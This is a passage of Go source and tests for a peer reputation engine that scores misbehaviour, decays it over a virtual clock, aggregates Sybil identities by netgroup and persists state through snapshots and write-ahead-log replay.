	e.Penalize("10.5.1.1:1", 100)
	res := e.Penalize("10.5.1.2:1", 100)
	if res.GroupStatus != GroupProbation {
		t.Fatalf("at half budget status = %v, want probation", res.GroupStatus)
	}
	if v := e.Admission("10.5.9.9:1"); v != VerdictProbation {
		t.Fatalf("admission verdict = %v, want probation", v)
	}

	e.Penalize("10.5.1.3:1", 100)
	res = e.Penalize("10.5.1.4:1", 100)
	if res.GroupStatus != GroupBanned || !res.GroupBanned {
		t.Fatalf("at full budget got %+v, want banned on this call", res)
	}
}

func TestSerialSybilChurnStillPaysGroupCost(t *testing.T) {
	// Serial Sybil: identities misbehave one at a time and "disconnect".
	// The engine has no Forget, so each burned identity's capped charge
	// stays pinned on the /16 until it decays — churn is not a reset.
	clock := newVirtualClock()
	e := New(Config{Clock: clock, GroupBudget: 400})
	for i := 0; i < 3; i++ {
		id := core.PeerID("10.6.0." + string(rune('1'+i)) + ":49152")
		e.Penalize(id, 100)
		e.Penalize(id, 100)
	}
	pressure, status := e.GroupPressure("ip4:10.6/16")
	if pressure < 300-1e-9 {
		t.Fatalf("group pressure = %v after 3 serial identities, want 300", pressure)
	}
	if status != GroupProbation {
		t.Fatalf("status = %v, want probation at 300/400", status)
	}
}

func TestPruneBelowKeepsHotState(t *testing.T) {
	clock := newVirtualClock()
	e := New(Config{Clock: clock})
	e.Penalize("10.1.0.1:1", 100)
	e.Credit("10.2.0.1:1", CreditBlock) // trusted peer must survive pruning
	e.Penalize("10.3.0.1:1", 1)

	clock.Advance(24 * time.Hour) // everything decays; trust persists
	peers, groups := e.PruneBelow(0.5)
	if peers != 2 || groups != 2 {
		t.Fatalf("pruned %d peers / %d groups, want 2/2 (trusted peer retained)", peers, groups)
	}
	if e.TrackedPeers() != 1 {
		t.Fatalf("tracked peers = %d, want the trusted survivor", e.TrackedPeers())
	}
	if s := e.Score("10.2.0.1:1"); s.Trust != CreditBlock {
		t.Fatalf("survivor trust = %v, want %v", s.Trust, float64(CreditBlock))
	}
}

func TestSnapshotOrdersAndCounts(t *testing.T) {
	clock := newVirtualClock()
	e := New(Config{Clock: clock})
	e.Penalize("10.1.0.1:1", 50)
	e.Credit("10.2.0.1:1", CreditBlock)
	e.Penalize("10.1.0.2:1", 10)

	snap := e.Snapshot()
	if len(snap.Peers) != 3 || len(snap.Groups) != 2 {
		t.Fatalf("snapshot has %d peers / %d groups, want 3/2", len(snap.Peers), len(snap.Groups))
	}
	// Peers ascend by reputation (eviction order): worst first.
	if snap.Peers[0].Peer != "10.1.0.1:1" || snap.Peers[2].Peer != "10.2.0.1:1" {
		t.Fatalf("peer order %v, want worst-first", []core.PeerID{snap.Peers[0].Peer, snap.Peers[1].Peer, snap.Peers[2].Peer})
	}
	// Groups descend by pressure.
	if snap.Groups[0].Group != "ip4:10.1/16" {
		t.Fatalf("group order starts with %q, want the pressured /16", snap.Groups[0].Group)
	}
	if snap.Penalties != 2 || snap.Credits != 1 {
		t.Fatalf("totals penalties=%d credits=%d, want 2/1", snap.Penalties, snap.Credits)
	}
}

func TestConcurrentPenalizeIsRaceFreeAndConserved(t *testing.T) {
	e := New(Config{Clock: newVirtualClock()})
	const workers = 8
	const hits = 200
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		w := w
		wg.Add(1)
		go func() {
			defer wg.Done()
			id := core.PeerID("10.4.0." + string(rune('1'+w)) + ":1")
			for i := 0; i < hits; i++ {
				e.Penalize(id, 1)
				e.Credit(id, 1)
				e.Score(id)
				e.Admission(id)
			}
		}()
	}
	wg.Wait()
	penalties, credits, _, _ := e.Totals()
	if penalties != workers*hits || credits != workers*hits {
		t.Fatalf("totals %d/%d, want %d each", penalties, credits, workers*hits)
	}
	// No decay occurred (virtual clock never advanced): pressure must be
	// exactly the sum of capped contributions.
	pressure, _ := e.GroupPressure("ip4:10.4/16")
	want := float64(workers) * e.Config().PeerContributionCap
	if pressure != want {
		t.Fatalf("group pressure = %v, want exactly %v", pressure, want)
	}
}

func BenchmarkReputationUpdate(b *testing.B) {
	e := New(Config{Clock: newVirtualClock()})
	id := core.PeerID("203.0.113.7:8333")
	e.Penalize(id, 1) // create state outside the measured loop
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		e.Penalize(id, 1)
	}
}
