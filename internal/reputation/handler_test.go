package reputation

import (
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"testing"

	"banscore/internal/core"
)

// TestHandlerEscapedPeerAndContentType pins the /debug/reputation HTTP
// contract: application/json on every response, percent-escaped peer path
// segments resolving to the same identity, and 404 (never 200-with-empty)
// for unknown peers.
func TestHandlerEscapedPeerAndContentType(t *testing.T) {
	e := New(Config{Clock: newVirtualClock()})
	plain := core.PeerID("203.0.113.7:8333")
	v6 := core.PeerID("[2001:db8::1]:8333")
	e.Penalize(plain, 40)
	e.Penalize(v6, 25)
	h := e.Handler()

	get := func(path string) (*httptest.ResponseRecorder, []byte) {
		t.Helper()
		rec := httptest.NewRecorder()
		h.ServeHTTP(rec, httptest.NewRequest("GET", path, nil))
		if ct := rec.Header().Get("Content-Type"); ct != "application/json" {
			t.Fatalf("GET %s: Content-Type = %q, want application/json", path, ct)
		}
		return rec, rec.Body.Bytes()
	}

	// The index snapshot serves both identities.
	rec, body := get("/debug/reputation")
	if rec.Code != http.StatusOK {
		t.Fatalf("index: HTTP %d", rec.Code)
	}
	var snap Snapshot
	if err := json.Unmarshal(body, &snap); err != nil || len(snap.Peers) != 2 {
		t.Fatalf("index snapshot: %s (%v)", body, err)
	}

	// Literal and escaped path segments must resolve the same peer.
	for _, tc := range []struct {
		path string
		want core.PeerID
	}{
		{"/debug/reputation/" + string(plain), plain},
		{"/debug/reputation/203.0.113.7%3A8333", plain},
		{"/debug/reputation/%5B2001%3Adb8%3A%3A1%5D%3A8333", v6},
	} {
		rec, body := get(tc.path)
		if rec.Code != http.StatusOK {
			t.Errorf("GET %s: HTTP %d, want 200", tc.path, rec.Code)
			continue
		}
		var doc peerDoc
		if err := json.Unmarshal(body, &doc); err != nil || doc.Peer != tc.want {
			t.Errorf("GET %s: peer = %q (%v), want %q", tc.path, doc.Peer, err, tc.want)
		}
		if doc.Misbehavior <= 0 {
			t.Errorf("GET %s: misbehavior = %v, want > 0", tc.path, doc.Misbehavior)
		}
	}

	// Unknown peers 404 with a JSON error body.
	rec, body = get("/debug/reputation/198.51.100.1%3A1")
	if rec.Code != http.StatusNotFound {
		t.Fatalf("unknown peer: HTTP %d, want 404", rec.Code)
	}
	var errDoc map[string]string
	if err := json.Unmarshal(body, &errDoc); err != nil || errDoc["error"] == "" {
		t.Errorf("unknown peer error body: %s (%v)", body, err)
	}
}
