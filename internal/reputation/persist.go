package reputation

import (
	"sort"
	"time"

	"banscore/internal/core"
)

// This file is the reputation engine's durability seam. Two halves:
//
//   - ExportState/ImportState move the whole engine (peer trust/misbehavior,
//     netgroup budgets, lifetime counters) through a canonical, sorted,
//     shard-count-independent State — the compacted-snapshot payload.
//   - Recorder + PenaltyRecord/CreditRecord stream every state change as it
//     happens — the WAL feed. Records carry post-state absolutes (decayed
//     values plus the vclock instant they are valued at), never deltas, so
//     replay is last-write-wins and a record applied twice converges instead
//     of double-charging. The per-peer Penalties/Credits counters double as
//     replay sequence numbers: a record at or below the restored counter was
//     already captured by the snapshot the replay runs on top of.
//
// Because every record is stamped with the injected vclock's reading, decay
// replays deterministically: restoring a snapshot plus its WAL tail on any
// shard count yields byte-for-byte the state of the live engine at the same
// clock instant.

// PenaltyRecord is the durable image of one Penalize call: the peer's and
// the netgroup's post-state, valued At the engine clock's reading.
type PenaltyRecord struct {
	ID core.PeerID

	// Seq is the peer's lifetime penalty count after this call — the
	// replay dedup sequence for the peer-state half of the record.
	Seq uint64

	// At is the vclock instant Mis/Contributed/Pressure are valued at;
	// restore re-anchors decay here.
	At time.Time

	// Peer post-state.
	Mis         float64
	Contributed float64

	// Netgroup post-state. Captured under the group mutex, so the WAL
	// observes group absolutes in exactly the order they were computed.
	Group       string
	Pressure    float64
	BannedUntil time.Time
	Identities  int
	Bans        uint64
}

// CreditRecord is the durable image of one Credit call.
type CreditRecord struct {
	ID core.PeerID

	// Seq is the peer's lifetime credit count after this call.
	Seq uint64

	// Trust is the peer's post-state trust (capped).
	Trust float64
}

// Recorder receives the engine's durable event stream. Implementations are
// invoked under the engine locks that computed the record's values — that is
// what makes the stream replayable in order — and must therefore be fast and
// non-blocking (the banstore's implementation is a mutex-guarded buffer
// append; fsync happens on a background writer).
type Recorder interface {
	RecordPenalty(rec PenaltyRecord)
	RecordCredit(rec CreditRecord)
}

// PeerPersist is one identity's exported reputation state.
type PeerPersist struct {
	ID          core.PeerID
	Group       string
	Trust       float64
	Mis         float64
	Contributed float64
	Last        time.Time
	Penalties   uint64
	Credits     uint64
}

// GroupPersist is one netgroup's exported state.
type GroupPersist struct {
	Key         string
	Pressure    float64
	Last        time.Time
	BannedUntil time.Time
	Identities  int
	Bans        uint64
}

// State is the engine's complete exported state. Peers and Groups are
// sorted (by ID and Key), so the same logical state always exports
// identically regardless of shard count or map iteration order — the
// property the crash-recovery byte-for-byte test leans on.
type State struct {
	Peers  []PeerPersist
	Groups []GroupPersist

	// Lifetime counters (Totals).
	Penalties uint64
	Credits   uint64
	GroupBans uint64
	Rejected  uint64
}

// ExportState snapshots the engine shard by shard under the read/group
// locks (consistent per shard — the same guarantee every whole-engine view
// gives).
func (e *Engine) ExportState() State {
	st := State{
		Penalties: e.penalties.Load(),
		Credits:   e.credits.Load(),
		GroupBans: e.groupBans.Load(),
		Rejected:  e.rejected.Load(),
	}
	for i := range e.peers {
		s := &e.peers[i]
		s.mu.RLock()
		for id, p := range s.m {
			st.Peers = append(st.Peers, PeerPersist{
				ID:          id,
				Group:       p.group.key,
				Trust:       p.trust,
				Mis:         p.mis,
				Contributed: p.contributed,
				Last:        p.last,
				Penalties:   p.penalties,
				Credits:     p.credits,
			})
		}
		s.mu.RUnlock()
	}
	for i := range e.groups {
		s := &e.groups[i]
		s.mu.Lock()
		for key, g := range s.m {
			g.mu.Lock()
			st.Groups = append(st.Groups, GroupPersist{
				Key:         key,
				Pressure:    g.pressure,
				Last:        g.last,
				BannedUntil: g.bannedUntil,
				Identities:  g.identities,
				Bans:        g.bans,
			})
			g.mu.Unlock()
		}
		s.mu.Unlock()
	}
	sort.Slice(st.Peers, func(i, j int) bool { return st.Peers[i].ID < st.Peers[j].ID })
	sort.Slice(st.Groups, func(i, j int) bool { return st.Groups[i].Key < st.Groups[j].Key })
	return st
}

// ImportState installs restored state into a freshly built engine. Groups
// are created first so every peer's cached group pointer lands on the same
// record future lookups resolve; entries land on whatever shard they hash
// to, so a snapshot taken at 8 shards restores identically at 256.
func (e *Engine) ImportState(st State) {
	for _, gp := range st.Groups {
		g := e.group(gp.Key)
		g.mu.Lock()
		g.pressure = gp.Pressure
		g.last = gp.Last
		g.bannedUntil = gp.BannedUntil
		g.identities = gp.Identities
		g.bans = gp.Bans
		g.mu.Unlock()
	}
	for _, pp := range st.Peers {
		g := e.group(pp.Group)
		s := e.peerShard(pp.ID)
		s.mu.Lock()
		p := s.m[pp.ID]
		if p == nil {
			p = &peerState{group: g}
			s.m[pp.ID] = p
		}
		p.trust = pp.Trust
		p.mis = pp.Mis
		p.contributed = pp.Contributed
		p.last = pp.Last
		p.penalties = pp.Penalties
		p.credits = pp.Credits
		s.mu.Unlock()
	}
	e.penalties.Store(st.Penalties)
	e.credits.Store(st.Credits)
	e.groupBans.Store(st.GroupBans)
	e.rejected.Store(st.Rejected)
}

// RestorePenalty replays one WAL penalty record. The peer half is guarded
// by Seq (skipped when the snapshot already captured it); the group half is
// guarded by At (never rewinds group state to an older instant). Records
// therefore apply idempotently in WAL order on top of any snapshot that
// overlaps the log.
func (e *Engine) RestorePenalty(rec PenaltyRecord) {
	p := e.peer(rec.ID)
	s := e.peerShard(rec.ID)
	fresh := false
	s.mu.Lock()
	if rec.Seq > p.penalties {
		p.mis = rec.Mis
		p.contributed = rec.Contributed
		p.last = rec.At
		p.penalties = rec.Seq
		fresh = true
	}
	g := p.group
	s.mu.Unlock()

	g.mu.Lock()
	if !rec.At.Before(g.last) {
		if rec.Bans > g.bans {
			e.groupBans.Add(rec.Bans - g.bans)
		}
		g.pressure = rec.Pressure
		g.last = rec.At
		g.bannedUntil = rec.BannedUntil
		g.identities = rec.Identities
		g.bans = rec.Bans
	}
	g.mu.Unlock()

	if fresh {
		e.penalties.Add(1)
	}
}

// RestoreCredit replays one WAL credit record, Seq-guarded like the penalty
// peer half.
func (e *Engine) RestoreCredit(rec CreditRecord) {
	p := e.peer(rec.ID)
	s := e.peerShard(rec.ID)
	fresh := false
	s.mu.Lock()
	if rec.Seq > p.credits {
		p.trust = rec.Trust
		p.credits = rec.Seq
		fresh = true
	}
	s.mu.Unlock()
	if fresh {
		e.credits.Add(1)
	}
}
