package reputation

import (
	"math"
	"testing"
	"time"

	"banscore/internal/core"
)

// scheduleStep is one event in a deterministic reputation schedule: advance
// the virtual clock, then act on one identity.
type scheduleStep struct {
	advance time.Duration
	id      core.PeerID
	penalty int // 0 → credit instead
	credit  int
}

// runSchedule replays steps against a fresh engine with the given shard
// count and returns the final (score, group-pressure) observations for
// every identity touched.
func runSchedule(steps []scheduleStep, shards int) map[core.PeerID][2]float64 {
	clock := newVirtualClock()
	e := New(Config{Clock: clock, ShardCount: shards})
	seen := map[core.PeerID]bool{}
	for _, st := range steps {
		clock.Advance(st.advance)
		if st.penalty > 0 {
			e.Penalize(st.id, st.penalty)
		} else {
			e.Credit(st.id, st.credit)
		}
		seen[st.id] = true
	}
	out := make(map[core.PeerID][2]float64, len(seen))
	for id := range seen {
		s := e.Score(id)
		p, _ := e.GroupPressure(e.GroupOf(id))
		out[id] = [2]float64{s.Reputation, p}
	}
	return out
}

// deterministicSchedule builds a reproducible multi-peer schedule from a
// small LCG (no math/rand: the banlint wallclock/determinism posture of
// this package extends to its tests).
func deterministicSchedule(n int) []scheduleStep {
	ids := []core.PeerID{
		"203.0.113.7:8333", "203.0.200.9:18333", // same /16
		"[2001:db8::1]:8333", "[2001:db8:1::2]:8333", // same /32
		"10.9.0.1:8333", "simnet-peer:0",
	}
	steps := make([]scheduleStep, 0, n)
	state := uint64(0x9e3779b97f4a7c15)
	next := func() uint64 {
		state = state*6364136223846793005 + 1442695040888963407
		return state >> 33
	}
	for i := 0; i < n; i++ {
		st := scheduleStep{
			advance: time.Duration(next()%90) * time.Second,
			id:      ids[next()%uint64(len(ids))],
		}
		if next()%3 == 0 {
			st.credit = CreditTx
		} else {
			st.penalty = int(next()%100) + 1
		}
		steps = append(steps, st)
	}
	return steps
}

func TestDecayDeterministicAcrossRunsAndShardCounts(t *testing.T) {
	steps := deterministicSchedule(500)

	baseline := runSchedule(steps, 8)
	for _, shards := range []int{8, 16, 64, 256} {
		for run := 0; run < 3; run++ {
			got := runSchedule(steps, shards)
			if len(got) != len(baseline) {
				t.Fatalf("shards=%d run=%d: %d identities, want %d", shards, run, len(got), len(baseline))
			}
			for id, want := range baseline {
				g := got[id]
				// Bit-exact, not approximate: the same vclock schedule
				// must replay to the same float trajectory regardless of
				// shard layout or prior runs.
				if g[0] != want[0] || g[1] != want[1] {
					t.Fatalf("shards=%d run=%d peer=%s: (rep, pressure) = (%v, %v), want (%v, %v)",
						shards, run, id, g[0], g[1], want[0], want[1])
				}
			}
		}
	}
}

func TestDecayHalfLifeExact(t *testing.T) {
	// The decay curve itself is part of the determinism contract: after k
	// half-lives a lone charge is worth exactly v·2⁻ᵏ (within one ulp-ish
	// tolerance of Exp2).
	clock := newVirtualClock()
	e := New(Config{Clock: clock, HalfLife: time.Minute})
	id := core.PeerID("10.0.0.1:8333")
	e.Penalize(id, 64)
	for k := 1; k <= 6; k++ {
		clock.Advance(time.Minute)
		want := 64 * math.Exp2(-float64(k))
		if got := e.Score(id).Misbehavior; math.Abs(got-want) > 1e-9 {
			t.Fatalf("after %d half-lives misbehavior = %v, want %v", k, got, want)
		}
	}
}

func TestNonAdvancingClockNeverDecays(t *testing.T) {
	// Virtual schedules frequently fire many events at one instant; decay
	// must be exactly 1 across them, not drift through float error.
	clock := newVirtualClock()
	e := New(Config{Clock: clock})
	id := core.PeerID("10.0.0.1:8333")
	for i := 0; i < 50; i++ {
		e.Penalize(id, 1)
	}
	if got := e.Score(id).Misbehavior; got != 50 {
		t.Fatalf("misbehavior = %v with frozen clock, want exactly 50", got)
	}
}
