package reputation

import (
	"reflect"
	"sync"
	"testing"
	"time"

	"banscore/internal/core"
)

// captureRecorder collects the engine's event stream for replay tests.
type captureRecorder struct {
	mu        sync.Mutex
	penalties []PenaltyRecord
	credits   []CreditRecord
}

func (r *captureRecorder) RecordPenalty(rec PenaltyRecord) {
	r.mu.Lock()
	r.penalties = append(r.penalties, rec)
	r.mu.Unlock()
}

func (r *captureRecorder) RecordCredit(rec CreditRecord) {
	r.mu.Lock()
	r.credits = append(r.credits, rec)
	r.mu.Unlock()
}

func TestExportImportRoundTripAcrossShardCounts(t *testing.T) {
	clock := newVirtualClock()
	src := New(Config{Clock: clock, ShardCount: 8})

	ids := []core.PeerID{"203.0.113.7:8333", "203.0.113.9:8333", "198.51.100.1:8333"}
	for i, id := range ids {
		src.Credit(id, CreditBlock)
		src.Penalize(id, 20*(i+1))
		clock.Advance(time.Minute)
	}

	want := src.ExportState()
	if len(want.Peers) != 3 || len(want.Groups) != 2 {
		t.Fatalf("export shape: %d peers / %d groups, want 3/2", len(want.Peers), len(want.Groups))
	}

	// A snapshot taken at 8 shards must restore identically at any other
	// shard count — State is the canonical form.
	for _, shards := range []int{8, 64, 256} {
		dst := New(Config{Clock: clock, ShardCount: shards})
		dst.ImportState(want)
		got := dst.ExportState()
		if !reflect.DeepEqual(got, want) {
			t.Fatalf("round-trip at %d shards diverged:\n got %+v\nwant %+v", shards, got, want)
		}
		// Live behavior must match too, not just the export image.
		for _, id := range ids {
			if dst.Score(id) != src.Score(id) {
				t.Fatalf("score for %s diverged after restore at %d shards", id, shards)
			}
		}
	}
}

func TestImportPreservesGroupPointerIdentity(t *testing.T) {
	clock := newVirtualClock()
	src := New(Config{Clock: clock, GroupBudget: 40, GroupBanDuration: time.Hour})
	id := core.PeerID("203.0.113.7:8333")
	src.Penalize(id, 50) // over budget → group banned

	dst := New(Config{Clock: clock, GroupBudget: 40, GroupBanDuration: time.Hour})
	dst.ImportState(src.ExportState())

	// The restored peer's cached group pointer must be the same record
	// Admission resolves, or the ban would be invisible to one path.
	if v := dst.Admission(id); v != VerdictReject {
		t.Fatalf("restored group ban not enforced: verdict %v", v)
	}
	if v := dst.Admission(core.PeerID("203.0.113.250:8333")); v != VerdictReject {
		t.Fatalf("restored group ban must cover the whole prefix: verdict %v", v)
	}
	_, _, groupBans, _ := dst.Totals()
	if groupBans != 1 {
		t.Fatalf("lifetime groupBans counter lost in restore: %d", groupBans)
	}
}

func TestDecayReplaysDeterministically(t *testing.T) {
	// The core durability property: snapshot + WAL replay on a virtual
	// clock reproduces the live engine exactly, including decay, because
	// records carry the vclock instant their values were computed at.
	clock := newVirtualClock()
	rec := &captureRecorder{}
	live := New(Config{Clock: clock, ShardCount: 16, Recorder: rec})

	id := core.PeerID("203.0.113.7:8333")
	other := core.PeerID("198.51.100.1:8333")
	live.Penalize(id, 40)
	clock.Advance(7 * time.Minute)
	live.Credit(id, CreditTx)
	live.Penalize(other, 25)
	clock.Advance(3 * time.Minute)
	live.Penalize(id, 10)

	// Restore from an empty snapshot + the full record stream.
	restored := New(Config{Clock: clock, ShardCount: 64})
	for _, p := range rec.penalties {
		restored.RestorePenalty(p)
	}
	for _, c := range rec.credits {
		restored.RestoreCredit(c)
	}

	if got, want := restored.ExportState(), live.ExportState(); !reflect.DeepEqual(got, want) {
		t.Fatalf("replayed state diverged from live:\n got %+v\nwant %+v", got, want)
	}

	// Decay must continue on the same trajectory after restore.
	clock.Advance(20 * time.Minute)
	if got, want := restored.Score(id), live.Score(id); got != want {
		t.Fatalf("post-restore decay diverged: got %+v want %+v", got, want)
	}
}

func TestRestoreIsIdempotentOverSnapshot(t *testing.T) {
	// Replaying the WHOLE WAL on top of a snapshot that already captured a
	// prefix of it must not double-apply: the Seq guard skips the peer
	// half, the At guard skips stale group halves.
	clock := newVirtualClock()
	rec := &captureRecorder{}
	live := New(Config{Clock: clock, Recorder: rec})

	id := core.PeerID("203.0.113.7:8333")
	live.Penalize(id, 30)
	live.Credit(id, CreditBlock)
	snap := live.ExportState() // snapshot taken mid-stream
	clock.Advance(time.Minute)
	live.Penalize(id, 30)
	live.Credit(id, CreditBlock)

	restored := New(Config{Clock: clock})
	restored.ImportState(snap)
	for _, p := range rec.penalties { // full log, including pre-snapshot records
		restored.RestorePenalty(p)
	}
	for _, c := range rec.credits {
		restored.RestoreCredit(c)
	}

	if got, want := restored.ExportState(), live.ExportState(); !reflect.DeepEqual(got, want) {
		t.Fatalf("overlap replay diverged:\n got %+v\nwant %+v", got, want)
	}

	// Replaying the log a second time must change nothing.
	before := restored.ExportState()
	for _, p := range rec.penalties {
		restored.RestorePenalty(p)
	}
	for _, c := range rec.credits {
		restored.RestoreCredit(c)
	}
	if got := restored.ExportState(); !reflect.DeepEqual(got, before) {
		t.Fatal("second replay mutated state (not idempotent)")
	}
}

func TestRecorderObservesGroupBan(t *testing.T) {
	clock := newVirtualClock()
	rec := &captureRecorder{}
	live := New(Config{Clock: clock, GroupBudget: 40, Recorder: rec})
	live.Penalize(core.PeerID("203.0.113.7:8333"), 50)

	if len(rec.penalties) != 1 {
		t.Fatalf("recorded %d penalties, want 1", len(rec.penalties))
	}
	r := rec.penalties[0]
	if r.Bans != 1 || !r.BannedUntil.After(clock.Now()) {
		t.Fatalf("group ban not captured in record: %+v", r)
	}

	// Replay alone must resurrect the collective ban and the counter.
	restored := New(Config{Clock: clock, GroupBudget: 40})
	restored.RestorePenalty(r)
	if v := restored.Admission(core.PeerID("203.0.113.99:8333")); v != VerdictReject {
		t.Fatalf("replayed group ban not enforced: verdict %v", v)
	}
	_, _, groupBans, _ := restored.Totals()
	if groupBans != 1 {
		t.Fatalf("replay did not advance groupBans counter: %d", groupBans)
	}
}
