package reputation

import (
	"testing"

	"banscore/internal/core"
)

func TestNetgroupKeyDerivation(t *testing.T) {
	cases := []struct {
		name string
		id   core.PeerID
		want string
	}{
		{"ipv4 /16", "203.0.113.7:8333", "ip4:203.0/16"},
		{"ipv4 same /16 different host", "203.0.200.250:18333", "ip4:203.0/16"},
		{"ipv4 different /16", "203.1.113.7:8333", "ip4:203.1/16"},
		{"ipv4 low octets", "10.0.0.1:8333", "ip4:10.0/16"},
		{"ipv6 /32", "[2001:db8::1]:8333", "ip6:2001:0db8/32"},
		{"ipv6 same /32 different interface", "[2001:db8:ffff::42]:8333", "ip6:2001:0db8/32"},
		{"ipv6 different /32", "[2002:db8::1]:8333", "ip6:2002:0db8/32"},
		{"ipv4-mapped ipv6 joins the v4 group", "[::ffff:203.0.113.7]:8333", "ip4:203.0/16"},
		{"host without port", "203.0.113.7", "ip4:203.0/16"},
		{"ipv6 host without port", "2001:db8::1", "ip6:2001:0db8/32"},
		{"simnet logical name", "attacker-3:0", "id:attacker-3:0"},
		{"bare logical name", "victim", "id:victim"},
		{"empty", "", "id:"},
		{"garbage", "not an address at all", "id:not an address at all"},
		{"too many colons unbracketed", "1:2:3:4:5", "id:1:2:3:4:5"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			got := NetgroupKey(tc.id)
			if got != tc.want {
				t.Fatalf("NetgroupKey(%q) = %q, want %q", tc.id, got, tc.want)
			}
			// Stability: the same identifier always lands in the same group.
			if again := NetgroupKey(tc.id); again != got {
				t.Fatalf("NetgroupKey(%q) unstable: %q then %q", tc.id, got, again)
			}
		})
	}
}

func TestNetgroupKeySybilsShareGroupVictimDoesNot(t *testing.T) {
	// The property the engine's budget rests on: a swarm minting ports (or
	// hosts) inside one /16 maps to one key, while a victim elsewhere maps
	// to another.
	swarm := NetgroupKey("10.7.1.1:49152")
	for _, id := range []core.PeerID{"10.7.1.1:49153", "10.7.200.9:65535", "10.7.0.1:8333"} {
		if NetgroupKey(id) != swarm {
			t.Fatalf("swarm identity %q escaped group %q (got %q)", id, swarm, NetgroupKey(id))
		}
	}
	if victim := NetgroupKey("10.8.0.1:8333"); victim == swarm {
		t.Fatalf("victim in different /16 shares group %q with the swarm", swarm)
	}
}

func TestNetgroupKeyMalformedNeverPanics(t *testing.T) {
	// Fuzz-ish sweep over hostile identifier shapes; every one must return
	// a non-empty per-identifier key rather than panicking or colliding
	// into a shared bucket.
	hostiles := []core.PeerID{
		":", "::", ":::", "[]:", "[", "]", "[::1", "::1]:8333",
		"999.999.999.999:1", "1.2.3:8333", "%zz:8333", "\x00\xff:1",
		"a b c", ":8333",
	}
	for _, id := range hostiles {
		key := NetgroupKey(id)
		if key == "" {
			t.Fatalf("NetgroupKey(%q) returned empty key", id)
		}
	}
	// ":8333" has an empty host — it must not share a bucket with another
	// malformed identifier.
	if NetgroupKey(":8333") == NetgroupKey(":18333") {
		t.Fatalf("distinct malformed identifiers collided into one group")
	}
}

func BenchmarkNetgroupLookup(b *testing.B) {
	e := New(Config{})
	id := core.PeerID("203.0.113.7:8333")
	e.Penalize(id, 10) // make the identity known so lookup hits the cache
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if e.GroupOf(id) == "" {
			b.Fatal("empty group")
		}
	}
}
