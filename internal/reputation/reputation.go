// Package reputation is the evidence-backed netgroup reputation engine —
// the countermeasure layer the paper's §VIII analysis motivates. It sits on
// top of the core ban-score Tracker and replaces the raw good−bad integer
// with three mechanisms the Defamation and Sybil attacks cannot cheaply
// game:
//
//  1. Per-peer trust state: good score rises with useful work (valid
//     BLOCK/TX delivery) while misbehavior decays exponentially over
//     injected vclock time, so a single framed burst fades instead of
//     permanently condemning an identifier.
//  2. Evidence-carrying scoring: every penalty the node feeds the engine is
//     mirrored in the core forensics Ledger with the offending message's
//     command, payload digest, and trace ID — "prove why this peer was
//     penalized" is answerable from /debug/bans.
//  3. Netgroup aggregation: misbehavior is charged to the peer's IPv4 /16
//     or IPv6 /32 group, capped per identity, so serial/parallel Sybil
//     identities from one prefix draw down a shared budget. Burning one
//     [IP:Port] per identity no longer resets the price of attack; the
//     whole prefix degrades to probation and then a collective ban.
//
// The package is in the banlint wallclock analyzer's scope: it never reads
// ambient time. All decay arithmetic runs off an injected vclock.Clock, so
// identical clock schedules yield identical scores — across runs and across
// shard counts.
package reputation

import (
	"math"
	"runtime"
	"sync"
	"sync/atomic"
	"time"

	"banscore/internal/core"
	"banscore/internal/vclock"
)

// Defaults. The contribution cap is deliberately aligned with the
// standard ban threshold: framing one innocent identifier buys an attacker
// at most one "ban's worth" of group damage, while exhausting a netgroup
// budget takes DefaultGroupBudget/DefaultPeerContributionCap distinct
// identities — the engine's headline property.
const (
	// DefaultHalfLife is the misbehavior decay half-life.
	DefaultHalfLife = 10 * time.Minute

	// DefaultTrustCap bounds accumulated trust so long-lived peers cannot
	// bank unlimited immunity.
	DefaultTrustCap = 100

	// DefaultPeerContributionCap is the most misbehavior one identity can
	// charge its netgroup at any instant.
	DefaultPeerContributionCap = 100

	// DefaultGroupBudget is the netgroup misbehavior budget; pressure at
	// or above it bans the group collectively.
	DefaultGroupBudget = 4000

	// DefaultProbationFraction of the budget at which a group enters
	// probation.
	DefaultProbationFraction = 0.5

	// DefaultGroupBanDuration bounds a collective netgroup ban.
	DefaultGroupBanDuration = time.Hour
)

// Trust credit weights for the useful-work classes the node reports.
const (
	// CreditBlock is the trust earned by delivering a valid block — the
	// paper's good-score unit, scaled up because block work is hard.
	CreditBlock = 5

	// CreditTx is the trust earned by delivering a valid, accepted
	// transaction.
	CreditTx = 1
)

// Verdict is the engine's admission decision for a connecting identifier.
type Verdict int

// Admission verdicts.
const (
	// VerdictAdmit: the identifier's netgroup is in good standing.
	VerdictAdmit Verdict = iota

	// VerdictProbation: the netgroup has drawn down a significant share
	// of its budget; admit, but deprioritize (first to evict, counted).
	VerdictProbation

	// VerdictReject: the netgroup is collectively banned.
	VerdictReject
)

// String returns the verdict name.
func (v Verdict) String() string {
	switch v {
	case VerdictAdmit:
		return "admit"
	case VerdictProbation:
		return "probation"
	case VerdictReject:
		return "reject"
	}
	return "unknown"
}

// GroupStatus classifies a netgroup's standing.
type GroupStatus int

// Netgroup states.
const (
	GroupHealthy GroupStatus = iota
	GroupProbation
	GroupBanned
)

// String returns the status name.
func (s GroupStatus) String() string {
	switch s {
	case GroupHealthy:
		return "healthy"
	case GroupProbation:
		return "probation"
	case GroupBanned:
		return "banned"
	}
	return "unknown"
}

// Config parameterizes an Engine. The zero value selects every default.
type Config struct {
	// Clock injects time for all decay arithmetic. Nil selects the system
	// clock; tests and the deterministic experiment harness install a
	// virtual one.
	Clock vclock.Clock

	// HalfLife of misbehavior decay. Zero selects DefaultHalfLife.
	HalfLife time.Duration

	// TrustCap bounds per-peer trust. Zero selects DefaultTrustCap.
	TrustCap float64

	// PeerContributionCap bounds one identity's instantaneous charge
	// against its netgroup. Zero selects DefaultPeerContributionCap.
	PeerContributionCap float64

	// GroupBudget is the netgroup misbehavior budget. Zero selects
	// DefaultGroupBudget.
	GroupBudget float64

	// ProbationFraction of GroupBudget at which a group enters probation.
	// Zero selects DefaultProbationFraction.
	ProbationFraction float64

	// GroupBanDuration of a collective netgroup ban. Zero selects
	// DefaultGroupBanDuration.
	GroupBanDuration time.Duration

	// ShardCount overrides the lock-shard count (rounded up to a power of
	// two). Zero selects a GOMAXPROCS-scaled default. Scores are
	// shard-count independent; this exists for determinism tests and
